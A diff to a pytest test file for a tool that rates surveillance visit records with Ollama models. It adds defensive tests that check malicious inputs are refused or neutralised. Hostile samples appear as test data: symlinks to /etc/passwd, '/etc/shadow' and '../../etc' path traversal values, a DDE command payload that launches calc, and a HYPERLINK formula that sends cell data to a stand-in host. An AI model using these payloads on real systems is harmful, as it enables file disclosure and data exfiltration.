@@ -5,8 +5,10 @@ from __future__ import annotations
 import csv
 import fcntl
 import json
+import os
 import threading
 from collections import Counter
+from pathlib import Path
 
 import pandas as pd
 import pytest
@@ -286,14 +288,16 @@ def test_a_fine_tune_folder_with_a_template_rates_a_syndromic_export(fake_ollama
 
 
 def test_without_an_id_column_rows_are_numbered(fake_ollama, tmp_path):
-    """An input without Row_ID or C_BioSense_ID gets a `row` column: the 1-based data row number."""
+    """An input without Row_ID or C_BioSense_ID gets a `row` column: the 1-based data row number
+    (the summary's id_column is null)."""
     src = tmp_path / "plain.csv"
     src.write_text("Prompt\nfirst visit\nsecond visit\nthird visit\n", encoding="utf-8")
     fake_ollama.chat_responder = lambda name, messages: '{"rating": -1, "rationale": ""}'
-    rate_file(model_from_name("llama3.2:1b", system="S", labels=MAPPING), src, tmp_path / "ratings.csv",
-              load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama)), chunk_rows=2)
+    summary = rate_file(model_from_name("llama3.2:1b", system="S", labels=MAPPING), src, tmp_path / "ratings.csv",
+                        load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama)), chunk_rows=2)
     header, rows = _rows(tmp_path / "ratings.csv")
     assert header[0] == "row"
+    assert summary["id_column"] is None
     assert [(r["row"], r["label"]) for r in rows] == [("1", "Unknown"), ("2", "Unknown"), ("3", "Unknown")]
 
 
@@ -354,3 +358,303 @@ def test_the_local_backend_rates_when_ollama_is_down(tmp_path, tiny_model_dir, t
     _, rows = _rows(tmp_path / "ratings.csv")
     assert [(r["Row_ID"], r["valid"], r["rating"], r["model"]) for r in rows] == [
         (r[0], "false", "", name) for r in synthetic_rows(4, 11)]
+
+
+# --- model folders from elsewhere: links, foreign and damaged files ------------------------------
+
+FOLDER_HINT = ("rate with a complete output folder of fine-tuner process or the daemon; a folder copied from "
+               "another machine or written by an older version may need to be built again")
+META = "fine_tuning_metadata.json"
+SET = "model_set_config.json"
+
+
+def _hand_made_folder(path, approach: str = "model_set"):
+    """A model folder written by hand the way a build writes one (the keys loading reads); the
+    few-shot example and the training record carry the patient marker."""
+    path.mkdir()
+    meta = {"approach": approach, "model": "llama3.2:1b", "mapping": {"labels": dict(MAPPING)},
+            "registration": {"registered": False}, "target_topics": "flu"}
+    (path / META).write_text(json.dumps(meta))
+    if approach == "model_set":
+        (path / SET).write_text(json.dumps({
+            "base_model": "llama3.2:1b", "system_prompt": "Rate the visit.",
+            "few_shot_examples": [{"input": f"visit {MARKER}", "output": '{"rating": 1, "rationale": ""}'},
+                                  {"input": f"other {MARKER}", "output": '{"rating": 0, "rationale": ""}'}]}))
+    else:
+        (path / "adapter").mkdir()
+        (path / "adapter" / "adapter_config.json").write_text("{}")
+        (path / "training_data.jsonl").write_text(json.dumps({"messages": [
+            {"role": "system", "content": "Rate the visit (trained)."}, {"role": "user", "content": MARKER}]}) + "\n")
+    return path
+
+
+def _edit(path, name: str, change) -> None:
+    data = json.loads((path / name).read_text())
+    change(data)
+    (path / name).write_text(json.dumps(data))
+
+
+def test_well_formed_hand_made_folders_load(tmp_path):
+    """A hand-made model set and fine-tune folder load: labels, system prompt, few-shot turns, adapter."""
+    model = model_from_folder(_hand_made_folder(tmp_path / "set"))
+    assert (model.approach, model.base_model, model.system, model.labels, len(model.few_shot)) == (
+        "model_set", "llama3.2:1b", "Rate the visit.", MAPPING, 4)
+    tune = model_from_folder(_hand_made_folder(tmp_path / "tune", "fine_tune"))
+    assert (tune.approach, tune.system, tune.adapter_dir) == (
+        "fine_tune", "Rate the visit (trained).", tmp_path / "tune" / "adapter")
+
+
+MALFORMED = [  # (approach, file, change, key, problem)
+    ("model_set", META, lambda m: m["mapping"]["labels"].update({"Match": "one"}), "mapping.labels",
+     "1 of its 3 ratings are not integers (the first is label number 1)"),
+    ("model_set", META, lambda m: m["mapping"].update({"labels": {}}), "mapping.labels",
+     "must be a non-empty object of label: integer rating pairs, not an object (empty)"),
+    ("model_set", META, lambda m: m.pop("mapping"), "mapping",
+     "must be an object holding the rating labels, not null"),
+    ("model_set", META, lambda m: m.update({"approach": "magic"}), "approach", "must be fine_tune or model_set"),
+    ("model_set", META, lambda m: m.update({"registration": {"registered": True, "name": 7}}), "registration.name",
+     "must be an Ollama model name, not a number"),
+    ("model_set", META, lambda m: m.update({"prompt_template": {"kind": "columns", "value": "x"}}),
+     "prompt_template", "a columns template's value must be a list of column names, got a string"),
+    ("model_set", SET, lambda c: c.pop("system_prompt"), "system_prompt", "is missing"),
+    ("model_set", SET, lambda c: c.update({"system_prompt": ["a"]}), "system_prompt", "must be a text, not a list"),
+    ("model_set", SET, lambda c: c.update({"few_shot_examples": {"input": "x"}}), "few_shot_examples",
+     "must be a list of examples, not an object"),
+    ("model_set", SET, lambda c: c["few_shot_examples"][1].pop("output"), "few_shot_examples[1].output",
+     "is missing"),
+    ("model_set", SET, lambda c: c["few_shot_examples"].append(MARKER), "few_shot_examples[2]",
+     "must be an object with input and output texts, not a text"),
+    ("model_set", SET, lambda c: c.update({"base_model": "/etc/shadow"}), "base_model",
+     "not a valid Ollama model name (a filesystem path); use [host[:port]/][namespace/]name[:tag] made of "
+     "letters, digits, '_', '.' and '-', e.g. llama3.2:1b"),
+    ("fine_tune", META, lambda m: m.update({"fine_tune": {"adapter_dir": "../../etc"}}), "fine_tune.adapter_dir",
+     "must be the name of a folder inside the model folder (no path)"),
+    ("fine_tune", META, lambda m: m.pop("model"), "model", "must be an Ollama model name, not null"),
+]
+
+
+@pytest.mark.parametrize(("approach", "file", "change", "key", "problem"), MALFORMED,
+                         ids=[f"{f}:{k}" for _, f, _, k, _ in MALFORMED])
+def test_a_malformed_model_folder_names_the_file_and_the_key(tmp_path, approach, file, change, key, problem):
+    """A model folder from another machine or an older version with a key of the wrong shape is a
+    ModelFolderError (a RatingError) naming the file and the key, never a ValueError/TypeError/
+    KeyError and never a value (few-shot examples hold patient text)."""
+    from daemon.quality.rating import ModelFolderError
+
+    folder = _hand_made_folder(tmp_path / "foreign", approach)
+    _edit(folder, file, change)
+    with pytest.raises(ModelFolderError) as info:
+        model_from_folder(folder)
+    error = info.value
+    assert isinstance(error, RatingError)
+    assert (error.file, error.key, error.message, error.hint) == (
+        file, key, f"{file} in the model folder foreign: {key}: {problem}", FOLDER_HINT)
+    assert {k: error.to_dict()[k] for k in ("error_type", "file", "key")} == {
+        "error_type": "ModelFolderError", "file": file, "key": key}
+    assert MARKER not in str(error.to_dict())
+
+
+def test_a_fine_tune_whose_first_training_record_is_not_a_chat_is_named(tmp_path):
+    """A fine-tune folder whose training_data.jsonl does not start with a system turn names the file
+    and the key instead of silently using another prompt; an empty validation file is skipped."""
+    from daemon.quality.rating import ModelFolderError
+
+    folder = _hand_made_folder(tmp_path / "tune", "fine_tune")
+    (folder / "validation_data.jsonl").write_text("")
+    (folder / "training_data.jsonl").write_text(json.dumps({"messages": [{"role": "user", "content": MARKER}]}))
+    with pytest.raises(ModelFolderError) as info:
+        model_from_folder(folder)
+    assert (info.value.file, info.value.key, info.value.message) == (
+        "training_data.jsonl", "messages[0]", 'training_data.jsonl in the model folder tune: messages[0]: the first '
+        'record does not start with a system turn ({"role": "system", "content": "<text>"})')
+
+
+@pytest.mark.parametrize("name", [META, SET])
+def test_deeply_nested_json_in_a_model_folder_names_the_file(tmp_path, name):
+    """A model folder file of JSON nested 100,000 levels deep is a ModelFolderError naming the file,
+    not a RecursionError."""
+    from daemon.quality.rating import ModelFolderError
+
+    folder = _hand_made_folder(tmp_path / "deep")
+    (folder / name).write_bytes(b"[" * 100_000 + b"]" * 100_000)
+    with pytest.raises(ModelFolderError) as info:
+        model_from_folder(folder)
+    assert (info.value.file, info.value.key, info.value.message) == (
+        name, None, f"{name} in the model folder deep is nested too deeply to be read (lists or objects inside "
+                    "each other thousands of levels deep)")
+
+
+def test_links_inside_a_model_folder_are_never_followed(tmp_path):
+    """fine_tuning_metadata.json linked to /etc/passwd, model_set_config.json linked to a valid file
+    elsewhere, an adapter folder linked elsewhere and a link inside the adapter are each refused
+    naming the file, even in a folder a user named directly."""
+    from daemon.quality.rating import ModelFolderError
+
+    elsewhere = _hand_made_folder(tmp_path / "elsewhere")
+    cases = []
+    folder = _hand_made_folder(tmp_path / "passwd")
+    (folder / META).unlink()
+    (folder / META).symlink_to("/etc/passwd")
+    cases.append((folder, META, f"{META} in the model folder passwd is a symbolic link; links in a model folder "
+                                "are never followed"))
+    folder = _hand_made_folder(tmp_path / "config")
+    (folder / SET).unlink()
+    (folder / SET).symlink_to(elsewhere / SET)
+    cases.append((folder, SET, f"{SET} in the model folder config is a symbolic link; links in a model folder "
+                               "are never followed"))
+    folder = _hand_made_folder(tmp_path / "adapter-link", "fine_tune")
+    (folder / "adapter" / "adapter_config.json").unlink()
+    (folder / "adapter" / "adapter_config.json").symlink_to(elsewhere / META)
+    cases.append((folder, "adapter/adapter_config.json", "adapter/adapter_config.json in the model folder "
+                  "adapter-link is a symbolic link or not a regular file; links in a model folder are never followed"))
+    folder = _hand_made_folder(tmp_path / "adapter-dir", "fine_tune")
+    (folder / "adapter" / "adapter_config.json").unlink()
+    (folder / "adapter").rmdir()
+    (folder / "adapter").symlink_to(elsewhere)
+    cases.append((folder, "adapter", "adapter in the model folder adapter-dir is a symbolic link or a file, not a "
+                                     "folder; links in a model folder are never followed"))
+    for folder, file, message in cases:
+        with pytest.raises(ModelFolderError) as info:
+            model_from_folder(folder)
+        assert (info.value.file, info.value.message) == (file, message)
+
+
+def test_a_model_folder_in_outputs_must_be_a_real_folder_there(tmp_path):
+    """With ``within`` (the daemon's outputs/), a link in outputs/ to a model folder outside is
+    refused; without it (a folder the user named on the command line) the link the user gave is
+    taken, and the same folder inside outputs/ loads either way."""
+    from daemon.quality.rating import ModelFolderError
+
+    outputs = tmp_path / "outputs"
+    outputs.mkdir()
+    outside = _hand_made_folder(tmp_path / "outside")
+    (outputs / "evil").symlink_to(outside)
+    with pytest.raises(ModelFolderError) as info:
+        model_from_folder(outputs / "evil", within=outputs)
+    assert (info.value.file, info.value.key, info.value.message, info.value.hint) == (
+        None, None, "the model folder evil is a symbolic link or a file, not a folder of the outputs folder; "
+                    "links are never followed", "put the model folder itself in outputs/, or name an Ollama model")
+    assert model_from_folder(outputs / "evil").system == "Rate the visit."
+    inside = _hand_made_folder(outputs / "good")
+    assert model_from_folder(inside, within=outputs).system == "Rate the visit."
+    with pytest.raises(ModelFolderError) as info:
+        model_from_folder(outside, within=outputs)
+    assert info.value.message == "the model folder outside is not a folder directly in the outputs folder"
+    (tmp_path / "a-file").write_text("{}")
+    with pytest.raises(ModelFolderError) as info:
+        model_from_folder(tmp_path / "a-file")
+    assert info.value.message == "the model folder a-file is a file, not a folder"
+
+
+def test_formulas_in_ids_labels_and_rationales_are_written_as_text(fake_ollama, tmp_path):
+    """An id, a label of the mapping or a model's rationale that a spreadsheet would run as a
+    formula is written with a leading single quote; plain numbers (-3, +1.5, the rating -1) stay."""
+    hyperlink = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    labels = {"=1+1": 1, "+no": 0, "@unknown": -1}
+    src = tmp_path / "new.csv"
+    src.write_text('Row_ID,formatted_prompt\n"=cmd|\' /C calc\'!A0",visit one\n-3,visit two\n+1.5,visit three\n'
+                   "@SUM(A1),visit four\n", encoding="utf-8")
+    ratings = {"visit one": 1, "visit two": 0, "visit three": -1, "visit four": 1}
+    fake_ollama.chat_responder = lambda name, messages: json.dumps(
+        {"rating": ratings[messages[-1]["content"]], "rationale": hyperlink})
+    summary = rate_file(model_from_name("llama3.2:1b", system="S", labels=labels), src, tmp_path / "ratings.csv",
+                        load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama)), chunk_rows=3)
+    with open(tmp_path / "ratings.csv", newline="", encoding="utf-8") as fh:
+        assert list(csv.reader(fh)) == [
+            ["Row_ID", "rating", "label", "rationale", "valid", "model"],
+            ["'=cmd|' /C calc'!A0", "1", "'=1+1", "'" + hyperlink, "true", "llama3.2:1b"],
+            ["-3", "0", "'+no", "'" + hyperlink, "true", "llama3.2:1b"],
+            ["+1.5", "-1", "'@unknown", "'" + hyperlink, "true", "llama3.2:1b"],
+            ["'@SUM(A1)", "1", "'=1+1", "'" + hyperlink, "true", "llama3.2:1b"]]
+    assert summary["counts"] == {"=1+1": 2, "+no": 1, "@unknown": 1}
+
+
+def test_an_epituner_id_column_in_another_case_is_the_id_column(fake_ollama, tmp_path):
+    """C_Biosense_ID (EpiTuner's spelling) and a lower-case prompt column are found; ratings.csv
+    keeps the input's spelling, and the summary and the log name the column taken, no cell."""
+    src = tmp_path / "epi.csv"
+    src.write_text(f"C_Biosense_ID,prompt\nB1,cough {MARKER}\nB2,sprain\n", encoding="utf-8")
+    fake_ollama.chat_responder = lambda name, messages: '{"rating": 1, "rationale": ""}'
+    with capture_logs() as logs:
+        summary = rate_file(model_from_name("llama3.2:1b", system="S", labels=MAPPING), src, tmp_path / "ratings.csv",
+                            load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama)))
+    header, rows = _rows(tmp_path / "ratings.csv")
+    assert (header[0], [r["C_Biosense_ID"] for r in rows]) == ("C_Biosense_ID", ["B1", "B2"])
+    assert (summary["id_column"], summary["prompt"]) == ("C_Biosense_ID", {"kind": "column", "value": "prompt"})
+    assert [(e["event"], e["id_column"]) for e in logs if e["event"] in ("rating_started", "rating_finished")] == [
+        ("rating_started", "C_Biosense_ID"), ("rating_finished", "C_Biosense_ID")]
+    assert MARKER not in repr(logs)
+
+
+def test_the_input_is_read_chunk_by_chunk_and_a_resumed_run_continues_in_order(fake_ollama, tmp_path):
+    """A file of several chunks is read as the rating goes (the input stays open while chunks are
+    rated, not loaded whole first, and is closed at the end); stopped after one chunk and resumed
+    with another chunk size, every record is asked once and written in the input's order."""
+    model = model_from_name("llama3.2:1b", system="Rate the visit.", labels=MAPPING)
+    src, out = tmp_path / "new.csv", tmp_path / "ratings.csv"
+    truth = _input_csv(src, 47)
+    fake_ollama.chat_responder = scripted = Scripted(truth)
+    config = load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama))
+
+    def input_open() -> bool:
+        fds = Path("/proc/self/fd")
+        return any(_target(fds / fd) == src for fd in os.listdir(fds))
+
+    stop = threading.Event()
+    seen = []
+    first = rate_file(model, src, out, config, chunk_rows=10, stop_event=stop,
+                      on_progress=lambda done, total: (seen.append((done, input_open())), stop.set()))
+    assert (first["status"], first["rated"], seen) == ("stopped", 10, [(10, True)])
+    assert input_open() is False
+    second = rate_file(model, src, out, config, chunk_rows=15,
+                       on_progress=lambda done, total: seen.append((done, input_open())))
+    assert seen[1:] == [(15, True), (30, True), (45, True), (47, True)]
+    assert (second["status"], second["resumed_from"], second["rated_this_run"]) == ("done", 10, 37)
+    assert input_open() is False
+    assert Counter(scripted.users) == Counter(list(truth))
+    _, rows = _rows(out)
+    assert [(r["Row_ID"], r["rating"]) for r in rows] == [(r[0], r[3]) for r in synthetic_rows(47, 11)]
+
+
+def _target(link: Path) -> Path | None:
+    try:
+        return Path(os.readlink(link))
+    except OSError:  # the descriptor closed meanwhile
+        return None
+
+
+def test_rating_into_the_input_itself_or_a_folder_is_refused_before_anything_is_asked(fake_ollama, tmp_path):
+    """An output that is the input (the same name, a path through .., a hard link) or a folder is
+    a RatingError before the input is read or a model asked; the input is unchanged."""
+    src = tmp_path / "new.csv"
+    _input_csv(src, 5)
+    kept = src.read_bytes()
+    (tmp_path / "sub").mkdir()
+    os.link(src, tmp_path / "hard.csv")
+    model = model_from_name("llama3.2:1b", system="S", labels=MAPPING)
+    config = load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama))
+    same = f" is the input file {src} itself: rating would overwrite the records"
+    for output, message in [(src, f"{src}{same}"),
+                            (tmp_path / "sub" / ".." / "new.csv", f"{tmp_path / 'sub' / '..' / 'new.csv'}{same}"),
+                            (tmp_path / "hard.csv", f"{tmp_path / 'hard.csv'}{same}"),
+                            (tmp_path / "sub", f"{tmp_path / 'sub'} is a folder, not a regular file")]:
+        with pytest.raises(RatingError) as info:
+            rate_file(model, src, output, config)
+        assert info.value.message == message
+    assert src.read_bytes() == kept
+    assert fake_ollama.requests_to("/api/chat") == []
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["hard.csv", "new.csv", "sub"]
+
+
+def test_a_part_file_sidecar_nested_too_deeply_is_a_rating_error(fake_ollama, tmp_path):
+    """A part file whose sidecar is JSON nested 100,000 levels deep is refused with a RatingError
+    naming the sidecar, not a RecursionError; nothing is asked of the model."""
+    model = model_from_name("llama3.2:1b", system="Rate the visit.", labels=MAPPING)
+    src, out = tmp_path / "new.csv", tmp_path / "ratings.csv"
+    fake_ollama.chat_responder = Scripted(_input_csv(src, 5))
+    (tmp_path / "ratings.csv.part").write_text("")
+    (tmp_path / "ratings.csv.part.json").write_bytes(b"[" * 100_000 + b"]" * 100_000)
+    with pytest.raises(RatingError) as info:
+        rate_file(model, src, out, load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama)))
+    assert info.value.message == f"ratings.csv.part.json in {tmp_path.name} cannot be read (RecursionError)"
+    assert fake_ollama.requests_to("/api/chat") == []
